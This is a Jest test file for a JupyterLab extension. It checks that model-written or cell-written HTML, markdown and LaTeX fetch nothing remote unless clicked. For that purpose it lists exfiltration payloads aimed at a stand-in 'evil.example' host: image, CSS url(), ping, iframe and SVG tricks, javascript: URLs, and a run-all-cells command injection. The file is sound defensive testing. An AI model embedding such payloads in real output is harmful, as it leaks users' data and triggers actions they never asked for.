import {
  MimeModel,
  RenderMimeRegistry,
  standardRendererFactories
} from '@jupyterlab/rendermime';
import { nullTranslator } from '@jupyterlab/translation';
import { Widget } from '@lumino/widgets';

import { loadOnClick, mayFetch, withoutRemote } from '../remote';

const trans = nullTranslator.load('jupyter_codeact');
const DATA = 'data:image/png;base64,iVBORw0KGgo=';
const EVIL = 'https://evil.example/x?stolen=1';

/** Hands HTML on as it is, as JupyterLab's parser does, and notes what it was given. */
const markdownParser = { render: jest.fn(async (source: string) => source) };

/** What was typeset, as it was then. */
const typeset = jest.fn();

const rendermime = withoutRemote(
  new RenderMimeRegistry({
    latexTypesetter: { typeset: element => typeset(element.textContent) },
    initialFactories: standardRendererFactories,
    markdownParser
  }),
  trans
);

async function drawn(source: string, type = 'text/html'): Promise<HTMLElement> {
  const renderer = rendermime.createRenderer(type);
  Widget.attach(renderer, document.body);
  const data = { [type]: source };
  await renderer.renderModel(new MimeModel({ data, trusted: false }));
  loadOnClick(renderer.node, () => 'work');
  return renderer.node;
}

/** All that a browser would fetch for an element, as far as jsdom shows. */
function fetched(node: HTMLElement): string[] {
  return [...node.querySelectorAll('*')].flatMap(element =>
    [...element.attributes]
      .filter(
        ({ name, value }) =>
          /evil/.test(value) && !/^(href|title|data-address)$/.test(name)
      )
      .map(({ name, value }) => `${element.localName} ${name}=${value}`)
  );
}

describe('Text that a model or a cell wrote', () => {
  it.each([
    `<img src="${EVIL}">`,
    `<img src="//evil.example/x.png">`,
    `<IMG SRC='${EVIL}' alt="a cat">`,
    `<img srcset="${EVIL} 2x" src="${DATA}">`,
    `<picture><source srcset="${EVIL}"><img src="${DATA}"></picture>`,
    `<video src="${EVIL}" controls></video>`,
    `<video poster="${EVIL}" src="data:video/mp4;base64,AA=="></video>`,
    `<video><source src="${EVIL}"></video>`,
    `<audio src="${EVIL}"></audio>`,
    `<p style="background-image: url(${EVIL})">x</p>`,
    `<p style="background: url('${EVIL}') no-repeat; color: red">x</p>`,
    `<p style="list-style-image: url(&quot;${EVIL}&quot;)">x</p>`,
    `<p style="background: \\75rl(${EVIL})">x</p>`,
    `<p style="cursor: url(${EVIL}), auto">x</p>`,
    `<table background="${EVIL}"><tr><td background="${EVIL}">x</td></tr></table>`,
    `<svg><image href="${EVIL}"/><use xlink:href="${EVIL}"/></svg>`,
    `<input type="image" src="${EVIL}">`,
    `<link rel="stylesheet" href="${EVIL}"><style>@import "${EVIL}"</style>`,
    `<iframe src="${EVIL}"></iframe><object data="${EVIL}"></object><embed src="${EVIL}">`,
    `<a href="x" ping="${EVIL}">x</a>`,
    `<img src="plots/evil.png">`,
    `<img src="/logout?evil">`
  ])('fetches nothing unasked: %s', async html => {
    expect(fetched(await drawn(html))).toEqual([]);
    expect(fetched(await drawn(html, 'text/markdown'))).toEqual([]);
  });

  it('names what was not loaded, and loads it at a click', async () => {
    const node = await drawn(`<p>See <img src="${EVIL}" alt="a cat">.</p>`);
    expect(node.textContent).toBe(`See Picture not loaded: ${EVIL}Load.`);
    node.querySelector('button')!.click();
    const image = node.querySelector('img')!;
    expect(image.src).toBe(EVIL);
    expect(image.alt).toBe('a cat');
    expect(node.querySelector('.jp-CodeAct-held')).toBeNull();
  });

  it.each([
    ['plots/a b.png', 'files/work/plots/a b.png'],
    ['../x.png', 'files/x.png'],
    ['../../logout', 'files/logout'],
    ['/api/shutdown', 'files/work/api/shutdown']
  ])('looks for %s among the files', async (address, path) => {
    const node = await drawn(`<img src="${address}">`);
    node.querySelector('button')!.click();
    const { src } = node.querySelector('img')!;
    expect(decodeURI(new URL(src).pathname)).toBe(`/${path}`);
  });

  it('loads a film as a film, and no code', async () => {
    const film = await drawn(`<video src="${EVIL}"></video>`);
    film.querySelector('button')!.click();
    expect(film.querySelector('video')!.src).toBe(EVIL);
    const code = await drawn('<img src="javascript:alert(1)">');
    code.querySelector('button')?.click();
    expect(code.querySelector('img')).toBeNull();
  });

  it('shows pictures that it brings along, and links', async () => {
    const node = await drawn(
      `<img src="${DATA}"><a href="${EVIL}">more</a><b style="color: red">x</b>`
    );
    expect(node.querySelector('img')!.src).toBe(DATA);
    expect(node.querySelector('a')!.href).toBe(EVIL);
    expect(node.querySelector('b')!.style.color).toBe('red');
  });

  it('draws no diagrams, and no TeX that styles the page', async () => {
    await drawn(
      '```mermaid\nA@{img: "https://evil"}\n```\n> ~~~ MERMAID',
      'text/markdown'
    );
    expect(markdownParser.render).toHaveBeenLastCalledWith(
      '```text\nA@{img: "https://evil"}\n```\n> ~~~ text'
    );
    const math = await drawn(
      `<p>$\\style{background: url(${EVIL})}{x}$ and <code>\\style</code></p>`
    );
    expect(typeset).toHaveBeenLastCalledWith(math.textContent);
    expect(math.textContent).toContain('$\\text{');
    expect(math.querySelector('code')!.textContent).toBe('\\style');
    await drawn(`$\\href{javascript:alert(1)}{x}$`, 'text/latex');
    expect(typeset).toHaveBeenLastCalledWith(
      '$\\text{javascript:alert(1)}{x}$'
    );
  });

  it('gives no commands to JupyterLab', async () => {
    const node = await drawn(
      '<button data-commandlinker-command="notebook:run-all-cells">Load</button>'
    );
    expect(node.innerHTML).not.toContain('run-all-cells');
  });

  it('is known to fetch or not before it is drawn', () => {
    expect(mayFetch('![x](https://evil)')).toBe(true);
    expect(mayFetch('<img src=x>')).toBe(true);
    expect(mayFetch('It is **42**, see [here](https://x).')).toBe(false);
  });
});
